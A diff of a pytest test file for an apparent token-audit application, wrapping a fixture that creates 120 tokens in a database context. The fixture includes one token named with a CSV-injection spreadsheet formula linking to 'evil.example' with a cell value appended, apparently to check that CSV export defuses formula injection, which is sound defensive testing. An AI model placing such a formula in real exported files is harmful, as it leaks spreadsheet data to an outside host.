@@ -5,7 +5,7 @@ import io
 from datetime import timedelta
 
 import pytest
-from conftest import auth_header, make_token, make_user
+from conftest import auth_header, database, make_token, make_user
 
 from tokenaudit.extensions import db
 from tokenaudit.models import utcnow
@@ -29,14 +29,15 @@ def read_csv(response) -> list[dict]:
 @pytest.fixture
 def many(org, admin):
     """120 tokens (more than two pages), a third of them old and never used, one hostile name."""
-    owners = [make_user(org, f"m{n}@acme.test", f"Müller {n}") for n in range(3)]
-    now = utcnow()
-    for index in range(120):
-        token, value = make_token(owners[index % 3], f"bot {index} ☃")
-        if index % 3 == 0:
-            token.created_at = now - timedelta(days=200)
-    make_token(owners[0], '=HYPERLINK("http://evil.example/?"&A1,"click")')
-    db.session.commit()
+    with database():
+        owners = [make_user(org, f"m{n}@acme.test", f"Müller {n}") for n in range(3)]
+        now = utcnow()
+        for index in range(120):
+            token, value = make_token(owners[index % 3], f"bot {index} ☃")
+            if index % 3 == 0:
+                token.created_at = now - timedelta(days=200)
+        make_token(owners[0], '=HYPERLINK("http://evil.example/?"&A1,"click")')
+        db.session.commit()
     # One token used from a known address, through the API.
     return value
 
